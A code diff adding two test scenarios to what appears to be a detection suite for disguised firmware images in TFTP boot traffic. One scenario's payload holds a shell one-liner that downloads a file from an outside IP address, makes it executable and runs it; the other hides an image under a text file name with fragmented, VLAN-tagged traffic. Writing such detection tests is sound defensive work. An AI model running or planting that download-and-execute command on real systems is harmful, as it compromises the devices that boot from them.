@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from bootwarden.scenarios.model import Expect, Notice, scenario
 from bootwarden.scenarios.sites import BOOT_SERVER, DEVICE, HQ, IMAGE, LAB
+from bootwarden.scenarios.tftp_networks import qinq
 from bootwarden.traffic import images, tftp
 from bootwarden.traffic.wire import Wire
 
@@ -106,3 +107,31 @@ def bw23_names_that_say_nothing(wire: Wire) -> None:
         ("edge2-confg", images.config("edge2")),
     ):
         tftp.read(wire, DEVICE, BOOT_SERVER, name, content, client_port=next(port))
+
+
+@scenario(
+    "BW23",
+    "malicious",
+    raises=[("BW23", 3, DEVICE, BOOT_SERVER)],
+    plain=Expect(notices=(Notice("Disguised_Image", "10.0.1.1", "10.0.0.5", "c2900-universalk9-mz.SPA.157-3.M8.bin"),)),
+    site=HQ,
+    with_site=Expect(
+        notices=(Notice("Disguised_Image", "10.0.1.1", "10.0.0.5", "c2900-universalk9-mz.SPA.157-3.M8.bin"),)
+    ),
+)
+def bw23_script_is_put_on_the_server(wire: Wire) -> None:
+    """A shell script is written to the boot server under the name of the approved image."""
+    script = b"#!/bin/sh\nwget -O /tmp/x http://45.83.20.10/x && chmod +x /tmp/x && /tmp/x &\n" * 4
+    tftp.write(wire, DEVICE, BOOT_SERVER, IMAGE, script)
+
+
+@scenario(
+    "BW23",
+    "malicious",
+    raises=[("BW23", 0, BOOT_SERVER, DEVICE)],
+    plain=Expect((Notice("Disguised_Image", DEVICE, BOOT_SERVER, "backup.txt"),)),
+)
+def bw23_in_fragments(wire: Wire) -> None:
+    """An image under a text's name, in blocks of six fragments and two VLAN tags."""
+    wire.encapsulate = qinq
+    tftp.read(wire, DEVICE, BOOT_SERVER, "backup.txt", images.ios(size=20_000), offer={"blksize": 8192})
